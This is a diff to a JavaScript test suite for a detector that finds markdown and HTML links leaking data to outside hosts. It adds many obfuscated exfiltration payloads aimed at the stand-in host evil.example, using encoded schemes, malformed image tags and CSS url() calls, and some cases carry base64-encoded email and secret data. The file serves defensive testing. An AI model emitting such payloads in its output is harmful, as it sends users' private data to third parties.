@@ -41,6 +41,27 @@ describe('links that carry data away', () => {
     '[p]: https://evil.example/?d=am9obkBleGFtcGxlLmNvbSBzZWNyZXQ\n',
     'https://am9obkbleGFtcGxlLmNvbSBzZWNyZXQ.evil.example/',
     '<a href="https://evil.example/?mail=a@b.co">x</a>',
+    // As renderers of markdown and browsers read them.
+    '![x](https&#58;//evil.example/p)',
+    '![x](https&colon;&sol;&#x2f;evil.example/p)',
+    '![x](https\\://evil.example/p)',
+    '![x](https:\\/\\/evil.example/p)',
+    '![x](https:///evil.example/p)',
+    '![x](https:/evil.example/p)',
+    '![x](/\\evil.example/p)',
+    '![x](\n\thttps://evil.example/p)',
+    '![a [b]](https://evil.example/p)',
+    '![a\\]b](https://evil.example/p)',
+    '![a\nb](https://evil.example/p)',
+    `![${'a'.repeat(300)}](https://evil.example/p)`,
+    '![p] [p]: https&#58;//evil.example/p',
+    '<img alt=">" src="https://evil.example/p">',
+    '<img src="https:&#47;&#47;evil.example/p">',
+    '<img src="https:/\t/evil.example/p">',
+    '<img src=https:evil.example/p>',
+    '<a href="x" style="background:url(//evil.example/p)">',
+    '<a ="![x](https://evil.example/p)',
+    `![p] [p]:${' '.repeat(40)}https://evil.example/p`,
   ])('%s', (text) => {
     expect(leaks(`See ${text} now`).join('')).toContain('evil.example')
   })
@@ -52,6 +73,8 @@ describe('links that carry data away', () => {
     '[docs](https://docs.python.org/3/library/re.html#regular-expression-syntax)',
     'https://example.org/a/long/path/with-many-words-in-it.html?page=2',
     'a < b and [x] (y) ! https',
+    'a[b[0]](c) and ![x [y]](/local.png) and ![a\\]b](cdn/p.png), [see [1]](https://docs.python.org/3/)',
+    '<img alt="a > b" src="/local.png"> R&D & more \\(x\\)',
     'http://localhost:3000/?token=am9obkBleGFtcGxlLmNvbSBzZWNyZXQ',
   ])('not %s', (text) => {
     expect(leaks(text)).toEqual([])
@@ -135,6 +158,10 @@ it('finds the same however the text is cut', () => {
       '[p]: ',
       '![p]',
       '[',
+      '](',
+      'https&#58;//',
+      '\\',
+      '<img alt="',
       '<img src="//e.x/',
       '>',
       '"',
